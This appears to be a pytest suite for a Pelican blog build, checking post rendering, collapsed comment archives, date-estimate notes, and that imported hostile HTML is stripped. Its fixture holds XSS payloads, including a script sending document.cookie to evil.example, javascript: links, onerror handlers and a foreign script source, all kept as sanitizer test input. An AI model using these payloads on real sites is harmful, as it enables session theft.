"""Real Pelican builds with the project's settings, theme and plugins; HTML checked with a parser."""
import shutil

import pytest

from conftest import ROOT, build_site, fold, foreign_scripts, soup, split_post

pytestmark = pytest.mark.build
HOSTILE = """Hostile HTML test

A normal paragraph with a <b>bold</b> word and a <a href="https://example.org">safe link</a>.

<script>document.location='https://evil.example/?c='+document.cookie</script>

Click <a href="javascript:alert(1)">here</a> or <a href="JaVaScRiPt:alert(2)" onmouseover="alert(3)">here</a>.

<img src=x onerror=alert(4)><iframe src="https://evil.example/frame"></iframe>

Text that says javascript:alert(5) and &lt;script&gt; in words.

<script>
alert("a script block over several lines")
</script>
The paragraph after a script block.

2 Comments

Mallory
March 24, 2017 at 9:14 am
<script>alert("comment")</script>Nice post <img src=x onerror=alert(6)> <b>really</b>
Reply

Leave a Reply
"""


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    out = tmp_path_factory.mktemp("site")
    done = build_site(ROOT / "content", out)
    assert done.returncode == 0, done.stdout + done.stderr
    return out


def test_committed_content_builds_without_warnings(site):
    posts = sorted((ROOT / "content" / "posts").glob("*.md"))
    assert len(posts) >= 5
    for md in posts:
        meta, _ = split_post(md)
        page = soup(site / "posts" / f"{meta['slug']}.html")
        heading = page.find("article").find("h1")
        assert fold(heading.get_text()) == meta["title"].replace("&lt;", "<").replace("&gt;", ">")
        assert page.find("article").find("p").get_text(strip=True)
    assert (site / "about.html").exists()


def test_comment_archive_is_shown_collapsed(site):
    for md in (ROOT / "content" / "posts").glob("*.md"):
        meta, _ = split_post(md)
        page = soup(site / "posts" / f"{meta['slug']}.html")
        section = page.find("section", class_="comments")
        if "comments-archive" in meta:
            assert section is not None and section.find("details") is not None
            assert not section.find("details").has_attr("open")
            assert section.find("li", class_="comment")
        else:
            assert section is None


def test_hostile_html_never_reaches_a_page(tmp_path, run_import):
    src = tmp_path / "hostile.txt"
    src.write_text(HOSTILE, encoding="utf-8")
    content = tmp_path / "content"
    code, report, _, _ = run_import(src, output=content)
    assert code == 0
    out = tmp_path / "out"
    done = build_site(content, out)
    assert done.returncode == 0, done.stdout + done.stderr
    [page_path] = list((out / "posts").glob("*.html"))
    page = soup(page_path)
    assert foreign_scripts(page) == [] and page.find_all("iframe") == [] and page.find_all("img") == []
    for el in page.find_all(True):
        assert not any(attr.lower().startswith("on") for attr in el.attrs), el
        for attr in ("href", "src"):
            assert not str(el.get(attr, "")).strip().lower().startswith("javascript:"), el
    article = page.find("article")
    assert article.find("b") is None and article.find("strong").get_text() == "bold"
    assert [a["href"] for a in article.find_all("a") if "example.org" in a["href"]] == ["https://example.org"]
    text = " ".join(article.get_text().split())
    assert "javascript:alert(5) and &lt;script&gt; in words." in text  # what the author typed, as typed
    assert "The paragraph after a script block." in text and "several lines" not in text
    comment = page.find("li", class_="comment")
    assert "Nice post" in comment.get_text() and "really" in comment.get_text() and "alert" not in comment.get_text()
    assert comment.find("b") is None and comment.find("script") is None


def test_missing_comment_archive_fails_the_build_naming_the_post(tmp_path):
    content = tmp_path / "content"
    (content / "posts").mkdir(parents=True)
    (content / "posts" / "p.md").write_text(
        "Title: P\nDate: 2020-01-01\nComments-Archive: comments/gone.json\n\nBody.\n", encoding="utf-8")
    done = build_site(content, tmp_path / "out")
    assert done.returncode != 0
    log = " ".join((done.stdout + done.stderr).split())
    assert "p.md" in log and "comments/gone.json does not exist" in log


def test_guessed_dates_are_shown_as_estimates(site):
    seen = set()
    for md in (ROOT / "content" / "posts").glob("*.md"):
        meta, _ = split_post(md)
        note = soup(site / "posts" / f"{meta['slug']}.html").find(class_="date-note")
        guessed = meta.get("date-source", "").startswith("guess")
        assert (note is not None) == guessed, md.name
        seen.add(guessed)
    assert seen == {True, False}  # the committed content has both kinds


def test_foreign_scripts_tells_the_themes_own_from_injected_ones():
    from bs4 import BeautifulSoup
    page = BeautifulSoup('<script>alert(1)</script><script type="application/ld+json">{"a": 1}</script>'
                         '<script type="application/ld+json">{"a": </script><script src="/theme/js/search.js"></script>'
                         '<script src="https://evil.example/x.js"></script>', "html.parser")
    assert [s.get("src") or s.string for s in foreign_scripts(page)] == ["alert(1)", '{"a": ', "https://evil.example/x.js"]
